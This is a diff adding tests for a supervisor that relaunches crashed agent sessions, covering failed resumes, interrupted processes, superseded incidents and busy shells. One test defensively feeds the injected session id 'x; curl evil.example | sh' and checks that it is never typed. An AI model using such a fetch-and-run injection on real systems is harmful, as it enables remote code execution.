@@ -19,7 +19,9 @@ from pitcrew.supervisor.core.records import (
     PromptSubmitted,
     Record,
     Relaunch,
+    RelaunchRefused,
     ScreenSeen,
+    Superseded,
     SwitchToBackup,
     TaskFinished,
     TerminalState,
@@ -485,3 +487,64 @@ def test_resume_now_still_reads_the_screen_first() -> None:
 def test_resume_now_without_an_incident_does_nothing() -> None:
     state = fresh(task="x")
     assert resume_now(state, T0, CTX, random.Random(1)) == (state, ())
+
+
+def test_a_session_id_that_does_not_look_like_one_is_never_typed() -> None:
+    run = Run()
+    run.prompt(sid="x; curl evil.example | sh")
+    due = run.wake_at(run.crash(T0 + 10))
+    out = run.feed(Tick(screen(S.CRASHED), alive=False), due)
+    relaunches = kinds(out, Relaunch)
+    assert all("curl" not in " ".join(r.argv) for r in relaunches)
+    assert Badge.SKIPPED in badges(out)
+
+
+def test_a_resumed_agent_that_dies_at_once_is_couldnt_resume_with_its_status() -> None:
+    run = Run()
+    run.prompt()
+    due = run.wake_at(run.crash(T0))
+    run.feed(Tick(screen(S.CRASHED), alive=False), due)
+    run.feed(ProcessStarted(1, pid=9), due + 0.5)
+    out = run.feed(ProcessExited(1, status=1, screen=screen(S.CRASHED),
+                                 tail=("No session sess-1",)), due + 1)
+    [row] = [a.decision for a in out if isinstance(a, Record)]
+    assert row.badge is Badge.COULDNT_RESUME and "status 1" in row.reason
+    assert row.readings["status"] == 1 and row.readings["last_lines"] == ["No session sess-1"]
+
+
+def test_a_relaunch_whose_agent_is_gone_at_the_settle_time_is_couldnt_resume() -> None:
+    run = Run()
+    run.prompt()
+    due = run.wake_at(run.crash(T0))
+    run.feed(Tick(screen(S.CRASHED), alive=False), due)
+    run.feed(ProcessStarted(1, pid=9), due + 0.5)
+    out = run.feed(Tick(screen(S.CRASHED), alive=False), due + 2.5)
+    assert badges(out) == [Badge.COULDNT_RESUME]
+
+
+def test_a_ctrl_c_with_no_readable_status_is_a_normal_stop() -> None:
+    run = Run()
+    run.prompt()
+    out = run.feed(ProcessExited(0, screen=screen(S.CRASHED), interrupted=True), T0 + 5)
+    assert out == () and run.state.incident is None and run.state.task is None
+
+
+def test_superseded_closes_the_incident_with_a_skipped_row() -> None:
+    run = Run()
+    run.prompt()
+    run.crash(T0)
+    out = run.feed(Superseded("the tmux server was restarted"), T0 + 1)
+    assert badges(out) == [Badge.SKIPPED] and run.state.incident is None
+    assert "tmux server was restarted" in kinds(out, Record)[0].decision.reason
+    due_tick = run.feed(Tick(screen(S.IDLE), alive=True), T0 + 10)
+    assert due_tick == ()                                  # nothing left to act on
+
+
+def test_a_busy_shell_holds_the_incident_and_tells_you() -> None:
+    run = Run()
+    run.prompt()
+    due = run.wake_at(run.crash(T0))
+    run.feed(Tick(screen(S.CRASHED), alive=False), due)
+    out = run.feed(RelaunchRefused("the bash in the pane is busy", busy=True), due + 0.1)
+    assert badges(out) == [Badge.WAITING] and kinds(out, Notify)
+    assert run.state.incident.phase is Phase.HOLD
